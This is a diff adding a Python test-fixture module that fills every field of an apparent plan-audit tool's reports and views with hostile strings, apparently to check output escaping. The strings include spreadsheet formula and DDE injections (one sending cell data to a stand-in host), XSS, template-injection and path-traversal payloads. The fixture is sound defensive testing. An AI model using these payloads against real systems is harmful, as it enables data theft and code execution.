@@ -1,0 +1,302 @@
+"""Text that tries to be more than text, and an audit in which everything is made of it."""
+
+from __future__ import annotations
+
+from collections import Counter
+from dataclasses import replace
+from datetime import UTC, datetime
+from hashlib import sha256
+from typing import Any
+
+from followup.audit.agreeing import Agreement, Pair
+from followup.audit.anchoring import Near
+from followup.audit.calibrating import Calibration, Scores
+from followup.audit.deciding import History
+from followup.audit.orphans import Orphan
+from followup.audit.returned import Change, Refused, Returned
+from followup.audit.yearly import Entry as YearEntry
+from followup.audit.yearly import YearLedger
+from followup.chains import Chain, Deed, Entry, Recurrence, Shortcoming
+from followup.evaluation import Case, Control, Evaluation
+from followup.evaluation import Scores as Measures
+from followup.evaluation.labels import Gold
+from followup.judging import JudgeOptions
+from followup.ledger import StoredReport
+from followup.model import (
+    Achievement,
+    Assessment,
+    Audit,
+    Commitment,
+    Document,
+    Flags,
+    Found,
+    Government,
+    Grade,
+    Identity,
+    Kind,
+    Link,
+    Note,
+    Problem,
+    Reason,
+    Report,
+    Role,
+    Section,
+    Span,
+    Verdict,
+    commitment_id,
+)
+from followup.model.reviews import (
+    Anchor,
+    CheckIn,
+    Decision,
+    MachineVerdict,
+    Passage,
+    Profile,
+    Review,
+    Status,
+)
+from followup.reporting import GapReport, Subject, gap_report
+from followup.reporting.quoting import one_line
+from followup.reporting.views.calibration import CalibrationView, ProfilesView
+from followup.reporting.views.comparison import (
+    Comparison,
+    ComparisonOptions,
+    Party,
+    Share,
+    TopicRow,
+)
+from followup.reporting.views.explanation import explanation
+from followup.reporting.views.extraction import extraction
+from followup.reporting.views.listing import ImportLine, Listing, ReportLine, RunLine
+from followup.reporting.views.record import HistoryView, OrphansView
+from followup.reporting.views.returned import ReturnView
+from followup.reporting.views.scorecard import Scorecard
+from followup.reporting.views.totals import Tally
+from followup.reporting.views.trend import Part, TrendOptions, TrendView, YearLine
+
+WHEN = datetime(2026, 3, 4, 9, 0, tzinfo=UTC)
+MARK = "标记"
+"""Stands in every hostile text, so that the text can be found again in an output."""
+HOSTILE = {
+    "formula": '=HYPERLINK("http://a.test/?"&A1,"标记")',
+    "plus": "+1+cmd|' /C calc'!A0标记",
+    "minus": "-2+3标记",
+    "at": "@SUM(1+1)*标记",
+    "tab": "\t=1+1标记",
+    "return": "\r=1+1标记",
+    "full width": "＝1+1标记",
+    "number": "1234567890123标记",
+    "script": "<script>alert('标记')</script>",
+    "image": "<img src=x onerror=alert(1)>标记",
+    "end of script": "</script></style></textarea><!--标记-->",
+    "attribute": '" onmouseover="alert(1)" x=\'标记',
+    "entity": "&lt;b&gt;标记&#60;i&#62;&amp;",
+    "cdata": "]]><w:p/><?php 标记 ?>",
+    "markdown link": "[标记](javascript:alert(1)) ![x](http://a.test/x.png) <http://b.test>",
+    "reference": '[标记]: http://a.test "x"',
+    "auto link": "http://a.test/标记 www.a.test a@a.test",
+    "table": "a | 标记 | b\\| c",
+    "heading": "# 标记\n## 二\n===\n---",
+    "list": "- 标记\n1. b\n> c",
+    "code": "```\n标记\n```\n    x `y`",
+    "emphasis": "**标记** __b__ ~~c~~ $x^2$",
+    "expression": "{{ 7*7 }}标记{{ config }}",
+    "statement": "{% for x in range(9) %}标记{% endfor %}{# 标记 #}",
+    "mark": "【落实情况】标记{{ chapter }}{{ fulfilled }}",
+    "right to left": "\u202e标记\u202c\u2066x\u2069",
+    "zero width": "标\u200b\u200d\ufeff记",
+    "control": "标\x00记\x07\x1b[31m\x1b]8;;http://a.test\x07\x7f\x85",
+    "surrogate": "标记\ud800\udfff",
+    "not a character": "标记\ufffe\uffff\U0001fffe",
+    "line separators": "标记\u2028x\u2029y\x0bz\x0c",
+    "combining": "标记" + "\u0301" * 80,
+    "astral": "标记𠮷😀",
+    "very long": "标记" + "极" * 40_000,
+    "up": "../../../etc/标记",
+    "windows": "C:\\..\\CON:标记|?*",
+}
+
+
+def audit_of(text: str) -> Audit:
+    """An audit whose reports, headings, names, reasons and passages all are ``text``."""
+    body = f"{text}\n{text}"
+    span = Span(0, len(text))
+    digest = sha256(body.encode(errors="replace")).hexdigest()
+    document = Document(digest, "text/plain", f"{text[:300]}.txt", body, encoding="utf-8")
+    identity = Identity(
+        government=Found(Government(text, "county", known=False), "title", span),
+        reviewed_year=Found(2024, "title"),
+        planned_year=Found(2025, "title"),
+        title=Found(text, "title", span),
+    )
+    commitments = tuple(
+        Commitment(
+            commitment_id(digest, span, kind),
+            span,
+            text,
+            kind,
+            (text, text),
+            topic=text[:40],
+            owner=text,
+            enumeration=text,
+        )
+        for kind in Kind
+    )
+    link = Link(span, text, 0.9, Grade.STRONG, {"wording": 0.9}, Role.RETROSPECT, (text,))
+    reasons = (Reason("figure_short", {"target": text, "said": text}), Reason("x", {"a": text}))
+    assessments = tuple(
+        Assessment(
+            commitment.id,
+            verdict,
+            0.5,
+            "figure_short",
+            reasons,
+            Flags(carried_over=True),
+            evidence=(link,) if verdict is not Verdict.MISSING else (),
+            candidates=(link,),
+        )
+        for commitment, verdict in zip(commitments, Verdict, strict=True)
+    )
+    sections = (Section(Role.PLAN, text, Span(0, len(body)), span),)
+    plan = Report(document, identity, sections, commitments, notes=(Note("x", {"what": text}),))
+    outcome = replace(plan, commitments=(), notes=())
+    return Audit(plan, outcome, assessments, settings={"version": text, text[:50]: text})
+
+
+def report_of(text: str) -> GapReport:
+    """Its gap report: a person, whose name and note are ``text``, decided the first commitment."""
+    first = audit_of(text).assessments[0].commitment_id
+
+    def decide(assessment: Assessment) -> Decision:
+        if assessment.commitment_id != first:
+            return Decision(assessment.verdict)
+        return Decision(Verdict.PARTIAL, "person", text, WHEN, text)
+
+    return gap_report(audit_of(text), run_id=1, decide=decide)
+
+
+def views_of(text: str) -> dict[Subject, Any]:
+    """A view of every subject of the registry, with ``text`` wherever a person or a report may
+    have written something."""
+    audit = audit_of(text)
+    made = audit.plan.commitments[0]
+    plan = StoredReport(
+        *(1, audit.plan.document.sha256, text, text, text, "county", "", 2024, 2025, "law", text),
+        *(3, 0, 0, WHEN),
+    )
+    anchor = Anchor(made.id, plan.sha256, text, "", 2025, "law", made.span, text, made.kind)
+    said = MachineVerdict(Verdict.MISSING, 0.5, "figure_short", 1)
+    passage = Passage(plan.sha256, made.span, text)
+    review = Review(anchor, text, WHEN, Verdict.PARTIAL, text, (passage,), (passage,), said, id=1)
+    other = Review(anchor, text, WHEN, Verdict.MISSING, text, id=2)
+    checkin = CheckIn(anchor, text, WHEN, WHEN.date(), Status.BEHIND, text)
+    reviews, checkins = (review, other), (checkin,)
+    decision = Decision(Verdict.PARTIAL, "person", text, WHEN, text)
+    year = YearEntry(
+        1, made, WHEN.date(), True, checkins, reviews, decision, machine=Verdict.MISSING
+    )
+    orphan = Orphan(anchor, reviews, checkins, plan, (Near(made, 0.5),))
+    change = Change(2, made, Verdict.MISSING, Verdict.PARTIAL, text, text, (review,))
+    details = (("cell", "B2"), ("text", text), ("name", text), ("key", text))
+    refused = tuple(Refused(code, 3, details, WHEN) for code in ("word", "unknown"))
+    scores = Scores(2, 1, 0.5, None, 0, {(Verdict.PARTIAL, Verdict.MISSING): 1})
+    options = JudgeOptions()
+    calibration = Calibration(
+        *({Verdict.PARTIAL: 2}, 1, 0, text, scores, scores, scores, 1, 0, True, options, options)
+    )
+    profile = Profile(text, {}, {"reviews": 2, "lexicon": text}, text, WHEN, 1)
+    imported = (
+        ImportLine(text, "new", text, 2024, 2025, 3),
+        ImportLine(text, "unread", why=one_line(text)),
+    )
+    return {
+        Subject.AUDIT: report_of(text),
+        Subject.EXPORT: (report_of(text),),
+        Subject.YEAR: YearLedger(plan, audit.plan, None, WHEN.date(), (year,)),
+        Subject.TREND: trend_of(text),
+        Subject.COMPARISON: comparison_of(text),
+        Subject.EXTRACTION: extraction(replace(audit.plan, **passages_of(text)), details=True),
+        Subject.EXPLANATION: explanation(audit, made.id, parts_of=lambda _: {"wording": 1.0}),
+        Subject.LIST: (
+            Listing("reports", [ReportLine("1", text, 2024, 2025, "law", text, text, 3, WHEN)]),
+            Listing("runs", [RunLine("1", text, 2025, Tally(1, 1, 1), WHEN, text, text)]),
+        ),
+        Subject.IMPORT: imported,
+        Subject.SCORECARD: scorecard_of(text),
+        Subject.CALIBRATION: CalibrationView(calibration, profile),
+        Subject.PROFILES: ProfilesView((profile,), as_it_is),
+        Subject.HISTORY: HistoryView(History(audit.plan, made, reviews, checkins), as_it_is),
+        Subject.ORPHANS: OrphansView((orphan,), as_it_is),
+        Subject.AGREEMENT: Agreement(plan, (text, text), (Pair(made, review, other),)),
+        Subject.RETURN: ReturnView(Returned((change,), refused, 0, 2), text, as_it_is),
+    }
+
+
+def as_it_is(moment: datetime) -> datetime:
+    return moment
+
+
+def passages_of(text: str) -> dict[str, Any]:
+    """What a report looked back on and admits, made of ``text``."""
+    span = Span(0, len(text))
+    return {
+        "achievements": (Achievement(span, text, span, (text,)),),
+        "problems": (Problem(span, text, (text,)),),
+    }
+
+
+def entries_of(text: str) -> tuple[Entry, Entry]:
+    """The same promise in two years."""
+    one = Entry("a" * 12, 2024, text, Kind.DELIVERABLE, "", Verdict.PARTIAL, True, reported=text)
+    return one, replace(one, id="b" * 12, year=2025)
+
+
+def trend_of(text: str) -> TrendView:
+    entries = entries_of(text)
+    line = YearLine(2024, Tally(1, 1, 0), 2, True, 1, 1, 1, 1, 1, 1, False, text, text)
+    shortcomings = tuple(Shortcoming(year, text) for year in (2024, 2025))
+    return TrendView(
+        government=text,
+        genre="law",
+        years=(line, replace(line, year=2025, tally=None)),
+        chains=Part((Chain(entries),), 1),
+        lengths={2: 1},
+        dropped=Part(entries, 2),
+        dropped_kinds=Counter({Kind.DELIVERABLE: 2}),
+        recurring=Part((Recurrence(shortcomings),), 1),
+        unpromised=Part((Deed(2024, Span(0, 1), text),), 1),
+        notes=(Note("x", {"what": text}),),
+        options=TrendOptions(),
+        made_at=WHEN,
+        short_ids={entry.id: entry.id for entry in entries},
+    )
+
+
+def comparison_of(text: str) -> Comparison:
+    entries = entries_of(text)
+    party = Party(
+        text, "county", "law", Tally(1, 1), Counter({Kind.DELIVERABLE: 2}), 1, 1, text, text
+    )
+    share = Share(Tally(1, 1), entries)
+    return Comparison(
+        year=2025,
+        parties=(party, party),
+        topics=(TopicRow("", (share, share)),),
+        hidden=0,
+        made_at=WHEN,
+        short_ids={entry.id: entry.id for entry in entries},
+        options=ComparisonOptions(),
+    )
+
+
+def scorecard_of(text: str) -> Scorecard:
+    """Of a label whose file, government and quotes all are ``text``."""
+    audit = audit_of(text)
+    scores = Measures(1, 0.5, 0.5, 0.5, 0.5, confusion=(("partial", "missing", 1),))
+    gold = Gold(Span(0, 1), text, Kind.DELIVERABLE, Verdict.MISSING, (), frozenset())
+    case = Case(text, text, text, gold, audit.plan.commitments[0], audit.assessments[0], 1)
+    by_kind = {"deliverable": scores}
+    evaluation = Evaluation(
+        scores, by_kind, {text: scores}, {text: scores}, {text: scores}, (case,), ()
+    )
+    return Scorecard(evaluation, Control(1, 0.1, 0.2))
